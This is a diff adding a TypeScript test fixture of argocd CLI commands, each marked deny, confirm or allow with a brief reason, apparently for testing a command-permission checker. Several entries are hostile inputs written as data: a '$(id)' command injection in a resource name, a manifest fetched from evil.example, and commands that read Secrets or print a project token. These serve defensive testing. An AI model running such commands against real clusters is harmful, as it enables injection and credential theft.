@@ -1,0 +1,54 @@
+import type { Attack } from "./attack.ts";
+
+export const argocd: readonly Attack[] = [
+  {
+    command: "argocd app diff web --local=manifests",
+    expect: "deny",
+    why: "a read that renders files of this machine",
+  },
+  { command: "argocd app logs web --tail 5 -f=true", expect: "deny", why: "follows, by a letter with a value" },
+  {
+    command: "argocd app sync web --prune --prune=false --force",
+    expect: "confirm",
+    why: "one is taken back, the other is not",
+  },
+  { command: "argocd app wait web --timeout -1", expect: "deny", why: "a negative time waits for ever" },
+  {
+    command: "argocd app sync web --resource 'apps:Deployment:$(id)'",
+    expect: "deny",
+    why: "the last part has to be a name",
+  },
+  { command: "argocd app get-resource web --kind Secret", expect: "deny", why: "a Secret through the application" },
+  { command: "argocd app list -H 'Authorization: Bearer x'", expect: "deny", why: "identity by a header" },
+  {
+    command: "argocd app list --port-forward-namespace argocd",
+    expect: "deny",
+    why: "another endpoint without naming one",
+  },
+  {
+    command: "argocd proj role create-token prod ci --token-only",
+    expect: "deny",
+    why: "a change below a list of reads that prints a credential",
+  },
+  {
+    command: "argocd app create web -f https://evil.example/app.yaml",
+    expect: "deny",
+    why: "a file that is an address",
+  },
+  { command: "argocd app delete web -h=false", expect: "deny", why: "no help is asked for" },
+  { command: "argocd app get web -- --server=x", expect: "deny", why: "behind `--` it is a name, and none" },
+  {
+    command: "argocd app list --cluster https://10.0.0.1:6443 --repo https://github.com/o/r",
+    expect: "allow",
+    why: "filters that look like addresses",
+  },
+  { command: "argocd repo get git@github.com:o/r.git", expect: "allow", why: "the address is the record's name" },
+  { command: "argocd account can-i delete clusters '*'", expect: "allow", why: "it only asks" },
+  { command: "argocd app sync web --prune=false --dry-run", expect: "allow", why: "a flag set to its default" },
+  { command: "argocd app get team-a/web --hard-refresh", expect: "allow", why: "namespace and name of the record" },
+  {
+    command: "argocd app logs delete --tail 5 --follow=false",
+    expect: "allow",
+    why: "an application with the name of a command",
+  },
+];
